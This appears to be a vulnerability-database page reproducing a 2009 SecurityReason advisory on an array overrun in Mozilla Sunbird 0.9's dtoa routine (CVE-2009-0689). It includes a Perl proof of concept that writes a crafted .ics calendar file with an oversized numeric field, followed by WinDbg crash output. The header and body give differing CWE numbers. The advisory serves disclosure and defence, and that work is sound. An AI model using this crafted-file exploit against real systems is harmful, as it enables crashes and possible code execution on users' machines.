Sunbird 0.9 Array Overrun (code execution)

Risk: High
Local: Yes
Remote: Yes
CWE: CWE-119

CVSS Base Score: 6.8/10
Impact Subscore: 6.4/10
Exploitability Subscore: 8.6/10
Exploit range: Remote
Attack complexity: Medium
Authentication: No required
Confidentiality impact: Partial
Integrity impact: Partial
Availability impact: Partial

[ Sunbird 0.9 Array Overrun (code execution) ] Author: Maksymilian Arciemowicz and sp3x Date: - Dis.: 07.05.2009 - Pub.: 11.12.2009 CVE: CVE-2009-0689 CWE: CWE-199 Risk: High Remote: Yes Affected Software: - Sunbird 0.9 NOTE: Prior versions may also be affected. Original URL: --- 0.Description --- Mozilla Sunbird is a cross-platform calendar application, built upon Mozilla Toolkit. Our goal is to provide you with a full-featured and easy to use calendar application that you can use around the world. --- 1. Sunbird 0.9 Remote Array Overrun (Arbitrary code execution) --- The main problem exist in dtoa implementation. Sunbird has thesame dtoa as Firefox,etc. Problem exist in js3250.dll (version 4.0.0 - Netscape 32-bit JavaScript Module) DLL library and it is the same like SREASONRES:20090625. but fix for SREASONRES:20090625, used by openbsd was not good. More information about fix for openbsd and similars SREASONRES:20091030, We can create any number of float, which will overwrite the memory. In Kmax has defined 15. Functions in dtoa, don't checks Kmax limit, and it is possible to call 16<= elements of freelist array. --- 2. Proof of Concept (PoC) --- If we use Sunbird to open or import crafted "ics" file, Sunbird will crash. For example --- #!/usr/bin/perl # # sp3x # tested on WinXp SP3 my $header = "BEGIN:VCALENDAR\n". "PRODID:-// Mozilla Calendar V1.1//EN\n". "VERSION:2.0\n". "BEGIN:VTIMEZONE\n". "TZID:Europe/Prague\n". "X-LIC-LOCATION:Europe/Prague\n". "BEGIN:DAYLIGHT\n". "TZOFFSETFROM:+0100\n". "TZOFFSETTO:+0200\n". "TZNAME:CEST\n". "DTSTART:19700329T020000\n". "RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3\n". "END:DAYLIGHT\n". "BEGIN:STANDARD\n"."TZOFFSETFROM:+0200\n". "TZOFFSETTO:+0100\n". "TZNAME:CET\n". "DTSTART:19701025T030000\n". "RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10\n". "END:STANDARD\n". "END:VTIMEZONE\n". "BEGIN:VEVENT\n". "CREATED:20091117T095214Z\n". "LAST-MODIFIED:20091117T095217Z\n". "DTSTAMP:20091117T095214Z\n". "UID:5d0cfefe-22f6-476e-93bf-bd13df140b18\n"; my $s = "SUMMARY:0."; my $expl = "1" x 296450; my $footer = "\nDTSTART;TZID=Europe/Prague:20100111T110000\n". "DTEND;TZID=Europe/Prague:20100111T120000\n". "END:VEVENT\n". "END:VCALENDAR\n"; open(myfile,'>>test.ics'); print myfile $header.$s.$expl.$footer; --- 0:000> r eax=015e06f9 ebx=00000001 ecx=658cebec edx=00000002esi=015e0710 edi=015e06f9 eip=600f154f esp=0012e330 ebp=0012e35c iopl=0 nv up ei pl nz na pe nc cs=001b ss=0023 ds=0023 es=0023 fs=003b gs=0000 efl=00010206 js3250!JS_strtod+0xb0a: 600f154f 8b01 mov eax,dword ptr [ecx] ds:0023:658cebec=???????? 0:000> ub 600f1551 js3250!JS_strtod+0xaf2: 600f1537 83c414 add esp,14h 600f153a 8b75fc mov esi,dword ptr [ebp-4] 600f153d e96bf5ffff jmp js3250!JS_strtod+0x68 (600f0aad) 600f1542 56 push esi 600f1543 57 push edi 600f1544 8b7c240c mov edi,dword ptr [esp+0Ch] 600f1548 8d0cbd08d01460 lea ecx,js3250!js_XMLClass+0x560 (6014d008)[edi*4] 600f154f 8b01 mov eax,dword ptr [ecx] 0:000> !exchain 0012fc9c: USER32!_except_handler3+0 (7e39048f) CRT scope 0, func: USER32!UserCallWinProc+10a (7e39ac2d) 0012fcf4: USER32!_except_handler3+0 (7e39048f) CRT scope 0, filter: USER32!DispatchMessageWorker+113 (7e39074a) func: USER32!DispatchMessageWorker+126 (7e390762) 0012fd5c: sunbird!jpeg_mem_term+eb7 (00849745) 0012ffb0: sunbird!jpeg_fdct_islow+266a4 (00848818) 0012ffe0: kernel32!_except_handler3+0 (7c839ac0) CRT scope 0, filter: kernel32!BaseProcessStart+29 (7c843882) func: kernel32!BaseProcessStart+3a (7c843898) Invalid exception stack at ffffffff 0:000> k ChildEBP RetAddr WARNING: Stack unwind information not available. Followingframes may be wrong. 0012e35c 600f15f3 js3250!JS_strtod+0xb0a 0012e37c 600f0ef9 js3250!JS_strtod+0xbae 0012e3f4 6010e8eb js3250!JS_strtod+0x4b4 0012e448 6010e3c6 js3250!JSLL_MinInt+0x1dcf 0012e46c 60103fb5 js3250!JSLL_MinInt+0x18aa 0012e5dc 6010195e js3250!js_Invoke+0x2c1b 0012e694 60101cb2 js3250!js_Invoke+0x5c4 0012e71c 60101e0a js3250!js_Invoke+0x918 0012e74c 6011350d js3250!js_Invoke+0xa70 0012e7a4 600e3c41 js3250!js_FindProperty+0x974 0012e7bc 004274cf js3250!JS_SetProperty+0x36 0012e978 0042593e sunbird!NS_RegistryGetFactory+0x1c585 0012ea44 6035c7f1 sunbird!NS_RegistryGetFactory+0x1a9f4 0012ea60 6035d30b xpcom_core!nsXPTCStubBase::Stub3+0x20 0012ea74 00421fde xpcom_core!XPTC_InvokeByIndex+0x27 0012ec2c 0041fe00 sunbird!NS_RegistryGetFactory+0x17094 0012ecc0 60101906 sunbird!NS_RegistryGetFactory+0x14eb6 0012ed80 60101cb2 js3250!js_Invoke+0x56c 0012ee08 60101e0a js3250!js_Invoke+0x918 0012ee38 6011350d js3250!js_Invoke+0xa70 --- 3. SecurityReason Note --- Officialy SREASONRES:20090625 has been detected in: - OpenBSD - NetBSD - FreeBSD - MacOSX - Google Chrome - Mozilla Firefox - Mozilla Seamonkey - Mozilla Thunderbird - Mozilla Sunbird - Mozilla Camino - KDE (example: konqueror) - Opera - K-Meleon - F-Lock This list is not yet closed. --- 4. Fix --- NetBSD fix (optimal): OpenBSD fix: --- 5. Credits --- Discovered by sp3x and Maksymilian Arciemowicz from --- 6. Greets --- Infospec p_e_a pi3 --- 7. Contact --- Email: - cxib {a.t] securityreason [d0t} com - sp3x {a.t] securityreason [d0t} com GPG: - -

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }}CET+1
{{ x.comment }}Copyright 2023,


Back to Top